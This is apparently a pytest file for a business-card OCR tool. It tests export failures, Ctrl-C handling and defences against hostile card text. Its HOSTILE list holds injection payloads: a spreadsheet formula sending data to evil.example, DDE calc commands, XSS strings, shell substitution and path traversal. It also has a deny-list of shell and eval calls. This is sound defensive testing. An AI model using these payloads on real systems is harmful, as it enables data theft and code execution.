"""Output failing (missing or read-only folder, disk full), interruptions (Ctrl-C), and hostile
text on a card: exit 5 with the store intact and no partial export left; exit 130 with a
summary; OCR text is data everywhere (HTML escaped, CSV formulas neutralised, no shell, no path).
"""

from __future__ import annotations

import ast
import csv
import errno
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_batch_fakes import PixelEngine, install, write_photo

from cardscan import export
from cardscan.cli import main
from cardscan.evaluate import Metrics, Sample
from cardscan.export.spreadsheet import FORMULA_STARTS
from cardscan.model import Card, Contact, Phone
from cardscan.report import write_report
from cardscan.store import Store

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def imported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A store holding three cards (read with the fakes); returns its path."""
    install(monkeypatch, PixelEngine())
    for n in (1, 2, 3):
        write_photo(tmp_path / "in" / f"card-{n}.png", n)
    db = tmp_path / "cards.db"
    assert main(["import", str(tmp_path / "in"), "--db", str(db), "--workers", "1", "-q"]) == 0
    return db


def store_rows(db: Path) -> list[dict[str, object]]:
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    with Store(db) as store:
        return sorted((c.to_dict() for c in store.contacts()), key=lambda c: str(c["id"]))


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_an_output_folder_that_does_not_exist_is_exit_5_and_the_cards_stay_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    install(monkeypatch, PixelEngine())
    write_photo(tmp_path / "in" / "card.png", 9)
    db, out = tmp_path / "cards.db", tmp_path / "no such folder" / "out.csv"
    args = ["import", str(tmp_path / "in"), "--db", str(db), "-o", str(out), "--workers", "1", "-q"]
    assert main(args) == 5
    assert f"cardscan: error: {out}: the folder {out.parent} does not exist" in capsys.readouterr().err
    assert not out.parent.exists()
    assert not db.exists() or store_rows(db) == []  # checked before a card is read
    assert main(["export", "--db", str(db), "-o", str(out)]) == 5


def test_a_read_only_output_folder_is_exit_5(
    tmp_path: Path, imported: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o555)
    else:  # root writes anywhere: the folder refuses the new file as a read-only mount would
        real_open = os.open

        def refuse(path: object, flags: int, *args: object) -> int:
            if str(path).startswith(str(folder)) and flags & os.O_CREAT:
                raise OSError(errno.EROFS, "Read-only file system", str(path))
            return real_open(path, flags, *args)  # type: ignore[arg-type]

        monkeypatch.setattr(export.os, "open", refuse)
    before = store_rows(imported)
    try:
        assert main(["export", "--db", str(imported), "-o", str(folder / "out.vcf")]) == 5
    finally:
        folder.chmod(0o755)
    err = capsys.readouterr().err
    assert err.startswith(f"cardscan: error: {folder / 'out.vcf'}: cannot write: ")
    assert list(folder.iterdir()) == []
    assert store_rows(imported) == before


@pytest.mark.parametrize("fmt", ["csv", "google", "vcard", "json"])
def test_a_full_disk_is_exit_5_leaving_no_partial_file_and_the_old_export_intact(
    tmp_path: Path, imported: Path, monkeypatch: pytest.MonkeyPatch, fmt: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "exports" / f"contacts.{fmt}"
    out.parent.mkdir()
    out.write_text("the export from last week\n")
    written: list[int] = []
    real_fdopen = os.fdopen

    def fdopen(fd: int, *args: object, **kwargs: object) -> object:
        handle = real_fdopen(fd, *args, **kwargs)  # type: ignore[call-overload]
        real_write = handle.write

        def write(text: str) -> int:
            if sum(written) > 40:  # some bytes land, then the disk is full
                raise OSError(errno.ENOSPC, "No space left on device")
            written.append(len(text))
            return int(real_write(text))

        handle.write = write
        return handle

    monkeypatch.setattr(export.os, "fdopen", fdopen)
    before = store_rows(imported)
    assert main(["export", "--db", str(imported), "-o", str(out), "--format", fmt]) == 5
    assert capsys.readouterr().err == f"cardscan: error: {out}: cannot write: No space left on device\n"
    # `import -o`: the cards it read stay stored though their export failed
    write_photo(tmp_path / "more" / "card.png", 77)
    written.clear()
    args = ["import", str(tmp_path / "more"), "--db", str(imported), "-o", str(out), "--format", fmt, "-q"]
    assert main([*args, "--workers", "1"]) == 5
    assert "No space left on device" in capsys.readouterr().err
    assert len(store_rows(imported)) == len(before) + 1
    before = store_rows(imported)
    assert sum(written) > 0  # the failure came part-way through
    assert out.read_text() == "the export from last week\n"
    assert leftovers(out.parent) == []
    assert store_rows(imported) == before


def test_ctrl_c_prints_what_was_stored_and_exits_130(tmp_path: Path) -> None:
    for person in range(1, 41):
        write_photo(tmp_path / "in" / f"card-{person:02d}.png", person)
    db = tmp_path / "cards.db"
    script = [sys.executable, str(ROOT / "tests" / "test_batch_fakes.py"), "0.2", str(tmp_path / "reads.log")]
    args = ["import", str(tmp_path / "in"), "--db", str(db), "--workers", "2", "-q"]
    process = subprocess.Popen([*script, *args],
                               env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and process.poll() is None:
            try:
                with sqlite3.connect(db, timeout=5) as conn:
                    if conn.execute("SELECT COUNT(*) FROM cards").fetchone()[0] >= 3:
                        break
            except sqlite3.OperationalError:
                pass  # not created yet
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 130, err
    summaries = [line for line in err.splitlines() if line.startswith("interrupted: ")]
    assert len(summaries) == 1, err
    summary = summaries[0]
    assert summary.startswith("interrupted: 40 cards: ")
    new = int(summary.split(": ")[2].split()[0])
    with Store(db) as store:
        assert store.card_count() == new >= 3, err
    assert "Traceback" not in err


E164 = r"\+[1-9]\d{1,14}"
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert('x')</script>",
    "\"><img src=x onerror=alert(1)>",
    "$(touch pwned); `touch pwned2`",
    "../../../../tmp/pwned",
]


def hostile_contact(text: str, n: int) -> Contact:
    return Contact(
        id=f"{n:016x}", name=text, company=text, title=text, notes=text, address=text,
        emails=[f"a{n}@example.com"], phones=[Phone(number="+14155550132", kind="work", raw=text)],
        websites=[text], images={"front": f"card-{n}.jpg", "back": None},
        raw_text={"front": text, "back": None},
    )


@pytest.mark.parametrize("fmt", ["csv", "google", "outlook"])
def test_ocr_text_that_looks_like_a_formula_is_inert_in_csv(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "out.csv"
    export.export([hostile_contact(text, n) for n, text in enumerate(HOSTILE)], str(out), fmt)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    for cell in cells:
        # only a phone number in E.164 may start with `+` (importers need it verbatim)
        assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(rf"{E164}( ::: {E164})*", cell), cell
    assert "'" + HOSTILE[0] in cells  # the text itself survives, behind the quote


def test_ocr_text_is_escaped_in_the_eval_report(tmp_path: Path) -> None:
    text = HOSTILE[7]
    photo = tmp_path / "card.png"
    write_photo(photo, 1)
    truth = {"name": text, "company": HOSTILE[8], "quality": "clean"}
    sample = Sample(stem="card", card=Card(photo), truth=truth)
    metrics = Metrics()
    metrics.update(sample, hostile_contact(text, 1))
    report = tmp_path / "report.html"
    write_report(report, metrics, {"card": sample})
    page = report.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert" in page


def test_the_review_page_puts_ocr_text_only_in_text_nodes() -> None:
    script = (ROOT / "cardscan" / "review" / "static" / "review.js").read_text(encoding="utf-8")
    code = "\n".join(line for line in script.splitlines() if not line.lstrip().startswith("//"))
    assert "innerHTML" not in code and "outerHTML" not in code and "insertAdjacentHTML" not in code
    assert "eval(" not in code and "document.write" not in code


def test_no_shell_anywhere_and_ocr_text_never_names_a_file(
    tmp_path: Path, imported: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for source in sorted((ROOT / "cardscan").rglob("*.py")):
        tree = ast.parse(source.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in ("os.system", "os.popen", "subprocess.getoutput", "eval", "exec"), source
                for keyword in node.keywords:
                    is_shell = keyword.arg == "shell" and not (
                        isinstance(keyword.value, ast.Constant) and keyword.value.value is False)
                    assert not is_shell, f"{source}: {called}(shell=...)"
    # Hostile text stored and exported to every format: no file appears but the export itself.
    with Store(imported) as store:
        for n, text in enumerate(HOSTILE):
            store.add_card(hostile_contact(text, 100 + n), f"{n:064x}")
    folder = tmp_path / "exports"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for fmt in export.FORMATS:
        assert main(["export", "--db", str(imported), "-o", str(folder / f"all.{fmt}"), "--format", fmt]) == 0
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"all.{fmt}" for fmt in export.FORMATS)
    assert not any(Path(name).exists() for name in ("pwned", "pwned2", "/tmp/pwned"))
